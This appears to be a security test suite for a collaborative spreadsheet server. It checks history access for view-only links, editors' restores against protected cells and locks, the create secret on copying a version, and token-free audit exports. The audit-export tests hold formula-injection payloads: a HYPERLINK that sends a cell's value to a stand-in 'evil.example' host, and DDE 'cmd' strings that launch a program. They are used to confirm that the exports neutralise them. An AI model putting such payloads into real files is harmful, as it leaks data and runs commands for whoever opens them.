// @vitest-environment node
/**
 * Security review of the history/audit feature, continued (history-security.test.ts has the links and
 * hostile input): the owner's switch for view-only links, an editor's restore against protections and
 * locks, copying a version into a new workbook (create secret, failure budget), and the audit trail's
 * CSV/XLSX (formula injection) with no share-link token anywhere.
 */
import { describe, expect, it } from 'vitest'
import ExcelJS from 'exceljs'
import { accessOf, lockKey, lockSheet, setProtections } from '../../src/core/access/access'
import { metaOf, sheetsOf, visibleColIds } from '../../src/core/workbook/schema'
import { insertCols, insertRows } from '../../src/core/workbook/mutations'
import { createLink, createWorkbook, docUntil, ownerTokens, testScope } from '../helpers/server'
import { unzipped } from '../helpers/zip'
import { textAt, type } from '../helpers/workbook'
import { auditWatch, call, parseCsv, probeKit, put, serverClose, sheetOf, stillServing } from '../helpers/historyProbe'

const scope = testScope()
const { server } = scope
const { client, fixture } = probeKit(scope)

// ── the owner's switch for view-only links ────────────────────────────────────────────────────────

describe('historyViewers', () => {
  it("keeps a viewer out of every history endpoint once the owner turns it off, and refuses an editor's or a viewer's attempt to turn it back", async () => {
    const { s, audit, id, owner, editor, viewer, sid, v1, ownerClient } = await fixture()
    const viewerClient = await client(s, id, viewer)
    metaOf(ownerClient.doc).set('historyViewers', false)
    await docUntil(viewerClient.doc, 'the setting reaches the viewer', d => metaOf(d).get('historyViewers') === false)
    const W = `/api/workbooks/${id}`
    const reads = [`${W}/versions`, `${W}/versions/${v1}/state`, `${W}/diff?from=${v1}`, `${W}/audit`, `${W}/audit?format=csv`, `${W}/audit?format=xlsx`, `${W}/audit/verify`, `${W}/export.json?since=${v1}`]
    for (const path of reads) {
      const r = await call(s, 'GET', path, viewer)
      expect(`${path} → ${r.status}`).toBe(`${path} → 403`)
      expect(r.text).not.toContain('"hash"')
      // owners and editors still read it
      expect((await call(s, 'GET', path, editor)).status).toBe(200)
    }
    // the review pack without `since`: served, without the history's parts
    const pack = await call(s, 'GET', `${W}/export.json`, viewer)
    expect(pack.status).toBe(200)
    expect(pack.json.changes).toBeUndefined()

    // an editor may not switch it back on: refused with history-owner-only, recorded with its author
    const editorClient = await client(s, id, editor)
    const refused = serverClose(editorClient)
    const seen = audit.count
    metaOf(editorClient.doc).set('historyViewers', true)
    expect(await refused).toEqual({ code: 4409, reason: 'history-owner-only' })
    await audit.atLeast(seen + 1)
    const trail = (await call(s, 'GET', `${W}/audit`, owner)).json as { action: string; by: string; detail: string }[]
    expect(trail.filter(e => e.action === 'refused')).toEqual([expect.objectContaining({ by: '小李', detail: 'history-owner-only' })])

    // nor delete the key (that would mean "on" too)
    const editor2 = await client(s, id, editor)
    const refused2 = serverClose(editor2)
    metaOf(editor2.doc).delete('historyViewers')
    expect(await refused2).toEqual({ code: 4409, reason: 'history-owner-only' })

    // a viewer's attempt is dropped
    metaOf(viewerClient.doc).set('historyViewers', true)
    type(ownerClient.doc, sid, 'C3', 'after the attempts')
    const fresh = await client(s, id)
    expect(textAt(fresh.doc, sid, 'C3')).toBe('after the attempts')
    expect(metaOf(fresh.doc).get('historyViewers')).toBe(false)
    expect((await call(s, 'GET', `${W}/versions`, viewer)).status).toBe(403)

    // an editor may not turn it off either (when it is on)
    metaOf(ownerClient.doc).set('historyViewers', true)
    await docUntil(fresh.doc, 'on again', d => metaOf(d).get('historyViewers') === true)
    expect((await call(s, 'GET', `${W}/versions`, viewer)).status).toBe(200)
    const editor3 = await client(s, id, editor)
    const refused3 = serverClose(editor3)
    metaOf(editor3.doc).set('historyViewers', false)
    expect(await refused3).toEqual({ code: 4409, reason: 'history-owner-only' })
    expect((await call(s, 'GET', `${W}/versions`, viewer)).status).toBe(200)
    await stillServing(s, id)
  })

  it("keeps a named version's values from a viewer the owner keeps from the history, also through BASELINE() in the exports", async () => {
    const { s, audit, id, viewer, sid, ownerClient } = await fixture()
    const viewerClient = await client(s, id, viewer)
    type(ownerClient.doc, sid, 'A1', '100')
    await docUntil(viewerClient.doc, 'A1', d => textAt(d, sid, 'A1') === '100')
    expect((await s.api('POST', `/api/workbooks/${id}/versions`, { name: 'Q3 目标' })).status).toBe(201)
    type(ownerClient.doc, sid, 'A1', '130')
    type(ownerClient.doc, sid, 'B1', '=BASELINE("Q3 目标", A1)')
    metaOf(ownerClient.doc).set('historyViewers', false)
    await docUntil(viewerClient.doc, 'the formula and the setting', d => metaOf(d).get('historyViewers') === false && textAt(d, sid, 'B1') !== '')
    void audit
    // the page cannot load the version for this viewer (403), so its B1 shows #N/A …
    expect((await call(s, 'GET', `/api/workbooks/${id}/versions`, viewer)).status).toBe(403)
    // … but the review pack and the .xlsx computed on the server hand over the version's value
    const pack = await call(s, 'GET', `/api/workbooks/${id}/export.json`, viewer)
    expect(pack.status).toBe(200)
    const shown = pack.json.sheets.find((x: { id: string }) => x.id === sid).rows[0].slice(0, 2)
    const xlsx = await call(s, 'GET', `/api/workbooks/${id}/export.xlsx`, viewer)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(xlsx.buf as never)
    const values: unknown[] = []
    wb.worksheets[0]!.eachRow(r => { values.push(r.getCell(2).value) })
    const leaked = { pack: shown[1], xlsx: values.some(v => v === 100 || (v as { result?: unknown } | null)?.result === 100) }
    expect(leaked).toEqual({ pack: expect.not.stringMatching(/^100$/), xlsx: false })
  })
})

// ── restore by an editor under protections and locks ──────────────────────────────────────────────

describe("an editor's restore", () => {
  async function protectedSetup() {
    const s = await server()
    const id = await createWorkbook(s, { name: '老板' })
    const editorToken = await createLink(s, id, 'editor', '小李')
    const owner = await client(s, id)
    const editor = await client(s, id, editorToken)
    const sid = sheetOf(owner)
    const cols = visibleColIds(sheetsOf(owner.doc).get(sid)!)
    // column B: the owner's only
    setProtections(owner.doc, [{ id: 'pB', sheet: sid, cols: [cols[1]!] }])
    type(owner.doc, sid, 'A1', 'old-a')
    type(owner.doc, sid, 'B1', 'old-b')
    await docUntil(editor.doc, 'the first inputs', d => textAt(d, sid, 'B1') === 'old-b' && accessOf(d).get('protections') !== undefined)
    const vid = (await s.api('POST', `/api/workbooks/${id}/versions`, { name: 'before' })).json.id as string
    return { s, id, editorToken, owner, editor, sid, cols, vid }
  }

  it('keeps protected cells, reports them as skipped, and restores the rest', async () => {
    const { s, id, editorToken, owner, editor, sid, cols, vid } = await protectedSetup()
    type(owner.doc, sid, 'A1', 'new-a')
    type(owner.doc, sid, 'B1', 'new-b')
    await docUntil(editor.doc, 'the later inputs', d => textAt(d, sid, 'B1') === 'new-b' && textAt(d, sid, 'A1') === 'new-a')
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    expect(r.status).toBe(200)
    expect(r.json.changed).toBe(1)
    expect(r.json.skipped).toEqual([expect.objectContaining({ sheetId: sid, colId: cols[1], code: 'protected', cell: 'B1' })])
    const fresh = await client(s, id)
    expect([textAt(fresh.doc, sid, 'A1'), textAt(fresh.doc, sid, 'B1')]).toEqual(['old-a', 'new-b'])
    // one protected cell asked for by address: nothing written, the cell reported
    const one = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: { sheetId: sid, cell: 'B1' } })
    expect(one.status).toBe(200)
    expect(one.json).toMatchObject({ changed: 0, skipped: [expect.objectContaining({ cell: 'B1', code: 'protected' })] })
    const fresh2 = await client(s, id)
    expect(textAt(fresh2.doc, sid, 'B1')).toBe('new-b')
    await stillServing(s, id)
  })

  it('changes nothing on a locked sheet and reports every cell as locked', async () => {
    const { s, id, editorToken, owner, editor, sid, vid } = await protectedSetup()
    type(owner.doc, sid, 'A1', 'new-a')
    type(owner.doc, sid, 'C5', 'new-c')
    lockSheet(owner.doc, sid, '老板')
    await docUntil(editor.doc, 'the lock', d => accessOf(d).get(lockKey(sid)) !== undefined && textAt(d, sid, 'C5') === 'new-c')
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    expect(r.status).toBe(200)
    expect(r.json.changed).toBe(0)
    expect(r.json.skipped.length).toBeGreaterThan(0)
    expect(new Set(r.json.skipped.map((x: { code: string }) => x.code))).toEqual(new Set(['locked']))
    const cell = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: { sheetId: sid, cell: 'A1' } })
    expect(cell.json).toMatchObject({ changed: 0, skipped: [expect.objectContaining({ cell: 'A1', code: 'locked' })] })
    const fresh = await client(s, id)
    expect([textAt(fresh.doc, sid, 'A1'), textAt(fresh.doc, sid, 'C5')]).toEqual(['new-a', 'new-c'])
    await stillServing(s, id)
  })

  it('keeps a row inserted since that holds a protected cell, as skipped, and restores the rest', async () => {
    const { s, id, editorToken, owner, editor, sid, vid } = await protectedSetup()
    const [newRow] = insertRows(owner.doc, sid, 1, 1)
    type(owner.doc, sid, 'B2', 'owner-only')
    type(owner.doc, sid, 'A1', 'new-a')
    await docUntil(editor.doc, 'the inserted row', d => textAt(d, sid, 'B2') === 'owner-only' && textAt(d, sid, 'A1') === 'new-a')
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    const fresh = await client(s, id)
    // nothing the editor may not do was applied, whatever the answer
    expect(textAt(fresh.doc, sid, 'B2')).toBe('owner-only')
    expect({ status: r.status, body: r.json }).toEqual({
      status: 200,
      body: expect.objectContaining({ skipped: expect.arrayContaining([expect.objectContaining({ sheetId: sid, code: 'protected', rowId: newRow })]) }),
    })
    expect(textAt(fresh.doc, sid, 'A1')).toBe('old-a')
  })

  it('keeps a protected column inserted since, as skipped, and restores the rest', async () => {
    const { s, id, editorToken, owner, editor, sid, cols, vid } = await protectedSetup()
    const [newCol] = insertCols(owner.doc, sid, 2, 1)
    setProtections(owner.doc, [{ id: 'pB', sheet: sid, cols: [cols[1]!] }, { id: 'pNew', sheet: sid, cols: [newCol!] }])
    type(owner.doc, sid, 'A1', 'new-a')
    await docUntil(editor.doc, 'the new column', d => textAt(d, sid, 'A1') === 'new-a' && visibleColIds(sheetsOf(d).get(sid)!).includes(newCol!)
      && JSON.stringify(accessOf(d).get('protections')).includes('pNew'))
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    const fresh = await client(s, id)
    expect(visibleColIds(sheetsOf(fresh.doc).get(sid)!)).toContain(newCol)
    expect({ status: r.status, body: r.json }).toEqual({
      status: 200,
      body: expect.objectContaining({ skipped: expect.arrayContaining([expect.objectContaining({ sheetId: sid, code: 'protected' })]) }),
    })
    expect(textAt(fresh.doc, sid, 'A1')).toBe('old-a')
  })
})

// ── copy and the create secret ────────────────────────────────────────────────────────────────────

describe('copying a version into a new workbook', () => {
  it('without a create secret: writers get a new workbook of their own, whose links are new; viewers are refused', async () => {
    const { s, id, editor, viewer, v1 } = await fixture()
    expect((await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/copy`, viewer)).status).toBe(403)
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/copy`, editor, { raw: 'not json even' })
    expect(r.status).toBe(201)
    expect(r.json.id).not.toBe(id)
    expect(r.json.you).toMatchObject({ role: 'owner', name: '小李' })
    // the old workbook's links do not open the copy; the copy's token does not open the old one
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}`, editor)).status).toBe(403)
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}`, r.json.token)).status).toBe(200)
    expect((await call(s, 'GET', `/api/workbooks/${id}/versions`, r.json.token)).status).toBe(403)
    // the copy has no history of the original
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}/versions`, r.json.token)).json).toEqual([])
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}/audit`, r.json.token)).json.some((e: { by: string }) => e.by === '访客')).toBe(false)
    await stillServing(s, id)
  })

  async function secretServer(maxAuthFailures: number) {
    const secret = 'create-secret-' + 'x'.repeat(20)
    const s = await server({ createSecret: secret, maxAuthFailures })
    const made = await s.api('POST', '/api/workbooks', { name: '老板' }, { headers: { authorization: `Bearer ${secret}` } })
    expect(made.status).toBe(201)
    const id = made.json.id as string
    ownerTokens.set(id, made.json.token)
    const editor = await createLink(s, id, 'editor', '小李')
    const viewer = await createLink(s, id, 'viewer', '访客')
    const v = (await s.api('POST', `/api/workbooks/${id}/versions`, { name: 'v' })).json.id as string
    return { s, secret, id, owner: made.json.token as string, editor, viewer, v }
  }

  it('with a create secret: needs it as X-Create-Secret besides a writer link', async () => {
    const { s, secret, id, owner, editor, viewer, v } = await secretServer(1_000)
    const path = `/api/workbooks/${id}/versions/${v}/copy`
    expect((await call(s, 'POST', path, editor)).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': 'wrong' } })).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': '' } })).status).toBe(403)
    // (HTTP drops a header value's surrounding whitespace: the secret with a space after it is the secret)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': secret.slice(0, -1) } })).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': secret + 'x' } })).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': 'é'.repeat(4000) } })).status).toBe(403)
    // the secret in place of the link: no link
    expect((await call(s, 'POST', path, secret)).status).toBe(401)
    // a viewer with the secret: still a viewer
    expect((await call(s, 'POST', path, viewer, { headers: { 'x-create-secret': secret } })).status).toBe(403)
    expect((await call(s, 'POST', path, null, { headers: { 'x-create-secret': secret } })).status).toBe(401)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': secret } })).status).toBe(201)
    expect((await call(s, 'POST', path, owner, { headers: { 'x-create-secret': secret } })).status).toBe(201)
    await stillServing(s, id)
  })

  it('with a create secret: wrong secrets on POST /api/workbooks run into the failure budget (429)', async () => {
    const { s } = await secretServer(5)
    const statuses: number[] = []
    for (let i = 0; i < 10; i++) statuses.push((await call(s, 'POST', '/api/workbooks', `wrong-secret-${i}-xxxxxxxxxxxx`, { body: {} })).status)
    expect(statuses).toContain(429)
  })

  it('counts wrong X-Create-Secret values on …/copy against the failure budget (429), so no editor can guess the create secret', async () => {
    const { s, id, editor, v } = await secretServer(5)
    const statuses: number[] = []
    for (let i = 0; i < 40; i++) {
      statuses.push((await call(s, 'POST', `/api/workbooks/${id}/versions/${v}/copy`, editor, { headers: { 'x-create-secret': `guess-${i}` } })).status)
    }
    // POST /api/workbooks answers 429 after 5 wrong secrets; the copy route should too
    expect(statuses).toContain(429)
  })
})

// ── the audit export: formula injection, and no tokens ───────────────────────────────────────────

describe('audit exports', () => {
  const hostileNames = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)', '+cmd|\' /C calc\'!A0', '-2+3']
  const hostileValues = ['=1+1', '+1+1', '-1+2', '@A1', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"]

  async function hostileTrail() {
    const s = await server()
    const audit = auditWatch(s)
    const id = await createWorkbook(s, { name: '=owner()' })
    const owner = await client(s, id)
    const sid = sheetOf(owner)
    let expectEntries = 0
    for (const [i, name] of hostileNames.entries()) {
      const c = await client(s, id, await createLink(s, id, 'editor', name))
      const seen = audit.count
      put(c.doc, sid, `A${i + 1}`, hostileValues[i % hostileValues.length])
      await audit.atLeast(seen + 1)
      expectEntries++
    }
    const seen = audit.count
    hostileValues.forEach((v, i) => put(owner.doc, sid, `B${i + 1}`, v))
    type(owner.doc, sid, 'C1', '=SUM(1,2)')
    await audit.atLeast(seen + hostileValues.length + 1)
    return { s, id, sid, expectEntries }
  }

  it('neutralises cells that start with = + - @ tab or CR in the CSV', async () => {
    const { s, id } = await hostileTrail()
    const r = await call(s, 'GET', `/api/workbooks/${id}/audit?format=csv`, ownerTokens.get(id)!)
    expect(r.status).toBe(200)
    expect(r.headers.get('content-type')).toMatch(/text\/csv/)
    expect(r.headers.get('content-disposition')).toMatch(/^attachment;/)
    const rows = parseCsv(r.text)
    expect(rows[0]).toEqual(['#', 'time', 'by', 'role', 'action', 'sheet', 'cell', 'before', 'after', 'detail', 'hash'])
    const dangerous = rows.flat().filter(f => /^[=+\-@\t\r]/.test(f))
    expect(dangerous).toEqual([])
    const fields = new Set(rows.flat())
    for (const n of hostileNames) expect(fields).toContain(`'${n}`)
    for (const v of hostileValues) expect(fields).toContain(`'${v}`)
    expect(fields).toContain("'=SUM(1,2)")
    await stillServing(s, id)
  })

  it('writes every audit cell of the XLSX as a value, none as a formula', async () => {
    const { s, id } = await hostileTrail()
    const r = await call(s, 'GET', `/api/workbooks/${id}/audit?format=xlsx`, ownerTokens.get(id)!)
    expect(r.status).toBe(200)
    const files = unzipped(r.buf)
    const sheetXml = Object.entries(files).filter(([k]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(k)).map(([, v]) => v).join('')
    expect(sheetXml).not.toMatch(/<f[ >]/)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(r.buf as never)
    const ws = wb.getWorksheet('audit')!
    const texts = new Set<string>()
    ws.eachRow(row => row.eachCell(cell => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      expect(cell.formula).toBeFalsy()
      // (XML reads a CR back as a line feed)
      if (typeof cell.value === 'string') texts.add(cell.value.replace(/\r\n?/g, '\n'))
    }))
    for (const n of hostileNames) expect(texts).toContain(n)
    for (const v of hostileValues) expect(texts).toContain(v.replace(/\r\n?/g, '\n'))
    expect(texts).toContain('=SUM(1,2)')
    await stillServing(s, id)
  })

  it('never holds a share-link token: links made and revoked, sockets, exports, restores and copies with ?token=', async () => {
    const f = await fixture()
    const { s, audit, id, owner, editor, viewer, revoked, v1, sid, ownerClient } = f
    const tokens = [owner, editor, viewer, revoked, f.other]
    const made = await s.api('POST', `/api/workbooks/${id}/links`, { role: 'owner', name: 'second owner' })
    tokens.push(made.json.token)
    expect((await s.api('DELETE', `/api/workbooks/${id}/links/${made.json.id}`)).status).toBe(200)
    const ed = await client(s, id, editor)
    const seen = audit.count
    type(ed.doc, sid, 'D4', 'by the editor')
    await audit.atLeast(seen + 1)
    expect((await call(s, 'GET', `/api/workbooks/${id}/export.json?token=${viewer}`, null)).status).toBe(200)
    expect((await call(s, 'GET', `/api/workbooks/${id}/export.csv?token=${editor}`, null)).status).toBe(200)
    expect((await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/restore?token=${editor}`, null, { body: {} })).status).toBe(200)
    const copy = await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/copy?token=${editor}`, null)
    expect(copy.status).toBe(201)
    tokens.push(copy.json.token)
    type(ownerClient.doc, sid, 'E5', 'last')
    await s.rooms.flushAll()
    const W = `/api/workbooks/${id}`
    const bodies = [
      (await call(s, 'GET', `${W}/audit?limit=10000`, owner)).text,
      (await call(s, 'GET', `${W}/audit?format=csv`, owner)).text,
      unzipped((await call(s, 'GET', `${W}/audit?format=xlsx`, owner)).buf),
      (await call(s, 'GET', `${W}/versions`, owner)).text,
      (await call(s, 'GET', `${W}/diff?from=${v1}`, owner)).text,
      (await call(s, 'GET', `${W}/export.json?since=${v1}`, owner)).text,
    ].map(b => (typeof b === 'string' ? b : JSON.stringify(b)))
    const entries = (await call(s, 'GET', `${W}/audit?limit=10000`, owner)).json as unknown[]
    expect(entries.length).toBeGreaterThan(5)
    for (const t of tokens) for (const [i, b] of bodies.entries()) expect(b.includes(t), `token found in response #${i}`).toBe(false)
    await stillServing(s, id)
  })
})

